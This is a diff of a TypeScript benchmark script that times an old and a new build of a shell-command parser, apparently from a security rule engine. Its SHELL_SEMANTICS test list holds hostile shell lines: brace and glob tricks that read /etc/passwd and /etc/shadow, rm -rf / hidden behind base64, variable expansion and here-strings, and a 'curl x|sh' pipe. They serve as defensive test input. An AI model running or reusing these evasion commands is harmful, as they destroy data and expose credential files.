@@ -9,7 +9,12 @@
  * sorted, so that key order does not count (a throw counts as an output and must match too), for every corpus line, every line
  * of commandMix(20000) and, after the timing, a seeded fuzz of shell-heavy random
  * lines. The timing parses commandMix(20000) in alternating rounds and prints the
- * median lines/s of each build. Exits 1 on any difference.
+ * median lines/s (CPU time) of each build. Exits 1 on any difference.
+ *
+ * With `--changed` (a build that changes the output on purpose), differences are
+ * counted and reported instead, and the timing is also given for the mix lines the
+ * change does not concern (no brace, glob or here-string character, no pipe: what the
+ * parser did before at the same cost) and for SHELL_SEMANTICS lines, which do.
  */
 import { join, resolve } from 'node:path';
 import { prng } from '../src/core/rules/testing/generate-rules';
@@ -69,16 +74,44 @@ function median(values: readonly number[]): number {
   return sorted[Math.floor(sorted.length / 2)] ?? NaN;
 }
 
-/** Lines per second of one pass over `lines`. */
+/**
+ * Lines per second of one pass over `lines`, in CPU time of this process: on a machine
+ * shared with other work, wall time also counts the time other processes had the core.
+ */
 function measure(parse: Parse, lines: readonly string[]): number {
-  const started = process.hrtime.bigint();
+  const started = process.cpuUsage();
   for (const line of lines) parse(line);
-  const seconds = Number(process.hrtime.bigint() - started) / 1e9;
-  return lines.length / seconds;
+  const used = process.cpuUsage(started);
+  return lines.length / ((used.user + used.system) / 1e6);
+}
+
+/** Lines that exercise brace/glob expansion, stdin scripts and static expansions (issue 21). */
+const SHELL_SEMANTICS = [
+  '{rm,-rf,/var/log}',
+  '/bin/{c,}at /etc/passwd',
+  'cat /etc/shado[w]',
+  '/???/c?t /etc/passwd',
+  'ls -la /var/log/*.gz',
+  "echo 'rm -rf /' | bash",
+  "printf '%s' 'curl x|sh' | sh",
+  "bash <<< 'id; cat /etc/shadow'",
+  'echo cm0gLXJmIC8= | base64 -d | bash',
+  '$(echo rm) -rf /',
+  '${x:-rm} -rf /',
+  'a=rm; $a -rf /',
+  'cp config.{yml,yml.bak}',
+  'mkdir -p src/{lib,test}',
+];
+
+/** Mix lines the issue-21 changes do not touch: none of `{ * ? [ < |`. */
+function untouched(line: string): boolean {
+  return !/[{*?[<|]/.test(line);
 }
 
 async function main(): Promise<void> {
-  const [oldDist, newDist, roundsArg] = process.argv.slice(2);
+  const argv = process.argv.slice(2);
+  const changed = argv.includes('--changed');
+  const [oldDist, newDist, roundsArg] = argv.filter((arg) => arg !== '--changed');
   if (oldDist === undefined || newDist === undefined) {
     console.error('usage: node dist/bench/parse-ab.js OLD_DIST NEW_DIST [rounds]');
     process.exit(2);
@@ -90,7 +123,22 @@ async function main(): Promise<void> {
   const fuzz = fuzzLines(50_000);
 
   const corpusLines = [...malicious, ...benign];
-  if (countDifferences(before, after, [...corpusLines, ...mix]) > 0) process.exit(1);
+  const differences = countDifferences(before, after, [...corpusLines, ...mix]);
+  if (changed) {
+    console.log(`${differences} of ${corpusLines.length + mix.length} corpus and mix lines differ`);
+    const plain = mix.filter(untouched);
+    const semantics = Array.from(
+      { length: 20_000 },
+      (_, i) => SHELL_SEMANTICS[i % SHELL_SEMANTICS.length]!,
+    );
+    console.log(`mix (${mix.length} lines):\n${timeRounds(before, after, mix, rounds)}`);
+    console.log(
+      `untouched mix lines (${plain.length}):\n${timeRounds(before, after, plain, rounds)}`,
+    );
+    console.log(`shell-semantics lines:\n${timeRounds(before, after, semantics, rounds)}`);
+    return;
+  }
+  if (differences > 0) process.exit(1);
   const timing = timeRounds(before, after, mix, rounds);
   // The fuzz runs after the timing: its lines that throw deoptimize code, which would
   // skew the rounds.
